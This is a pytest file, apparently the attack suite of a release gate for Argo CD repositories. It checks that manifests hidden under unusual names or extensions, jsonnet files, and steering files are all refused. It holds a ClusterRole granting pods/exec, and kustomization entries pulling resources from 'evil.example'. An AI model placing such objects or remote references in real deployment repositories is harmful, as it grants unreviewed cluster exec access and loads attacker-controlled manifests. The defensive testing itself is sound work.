"""Row 24: put an object into a file that Argo CD applies and the gate does not look at.

Argo CD takes .yaml, .yml, .json and .jsonnet, and a few files beside them change what it makes of a folder.
Whatever it would apply is judged, or refused by its name.
"""

import json

import pytest
import yaml

from tests.attacks.stage import Stage
from tests.attacks.switches import replaced

ROOT = "argocd/main/root.yaml"
SHELL = """\
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: shell}
rules:
  - {apiGroups: [""], resources: [pods/exec], verbs: [create]}
"""
POSING = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: notes, namespace: argocd}\n"
STEERING = {
    ".argocd-source.yaml": "directory: {exclude: '*'}\n",
    ".argocd-source-root.yaml": "directory: {jsonnet: {}}\n",
    "kustomization.yaml": "resources: ['https://evil.example/objects']\n",
    "environments/kustomization.yml": "resources: ['https://evil.example/objects']\n",
    "Chart.yaml": "name: main\nversion: 1.0.0\ndependencies: []\n",
}


@pytest.mark.parametrize("name", ["shell.yml", "shell.json", "deep/er/.hidden.yaml"])
def test_every_manifest_that_argocd_reads_is_judged(starter: Stage, name: str) -> None:
    path = f"argocd/main/{name}"
    starter.write({path: json.dumps(yaml.safe_load(SHELL)) if name.endswith("json") else SHELL}).propose()

    assert [line for line in starter.refusals() if "human_exec" in line] != []
    assert [one for one in starter.refusals(without="access.human_exec") if one.startswith(path)] == []


@pytest.mark.parametrize("path", ["argocd/main/shell.jsonnet", "platform/main/tools/lib/shell.libsonnet"])
def test_jsonnet_is_refused_wherever_it_could_run(starter: Stage, path: str) -> None:
    starter.write({path: json.dumps(yaml.safe_load(SHELL))}).propose()

    assert starter.refusals() == [f"{path}:1:1 argocd.jsonnet"]
    assert starter.refusals(without="argocd.jsonnet") == [f"{path}:1:1 meta.ledger"]
    assert starter.refusals(without=["argocd.jsonnet", "meta.ledger"]) == []


@pytest.mark.parametrize("name", ["shell.YAML", "shell.yaml.tpl", "shell.txt"])
def test_a_name_that_nothing_knows_is_refused_beside_manifests(
    starter: Stage, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    path = f"argocd/main/{name}"
    starter.write({path: SHELL}).propose()

    assert starter.refusals() == [f"{path}:1:1 load", f"{path}:1:1 meta.ledger"]
    monkeypatch.setattr("releasegate.repo._OURS", ("nowhere/",))
    assert starter.refusals(without="meta.ledger") == []


@pytest.mark.parametrize(("name", "content"), STEERING.items(), ids=STEERING.keys())
def test_a_file_that_steers_argocd_cannot_pose_as_a_manifest(
    starter: Stage, monkeypatch: pytest.MonkeyPatch, name: str, content: str
) -> None:
    path = f"argocd/main/{name}"
    starter.write({path: POSING + content}).propose()

    assert starter.refusals() == [f"{path}:1:1 load", f"{path}:1:1 meta.ledger"]
    from releasegate.layout import place

    manifest = place("argocd/main/root.yaml")
    replaced(
        monkeypatch, "releasegate.file_reading.place", lambda one: manifest if one == path else place(one)
    )
    assert not [line for line in starter.refusals() if line.startswith(path)]


@pytest.mark.parametrize(
    ("field", "column"),
    [("disableExtensionFilter: true", 5), ("jsonnet: {libs: [lib]}", 5)],
)
def test_a_source_that_takes_any_file_is_refused(starter: Stage, field: str, column: int) -> None:
    starter.edit(ROOT, "directory: {recurse: true}", f"directory: {{recurse: true, {field}}}").propose()

    found = starter.refusals()

    assert {line.rpartition(" ")[2] for line in found} == {"argocd.scope", "argocd.root"}
    assert any(line.startswith(f"{ROOT}:24:") for line in found)
    assert starter.refusals(without=["argocd.scope", "argocd.root"]) == []
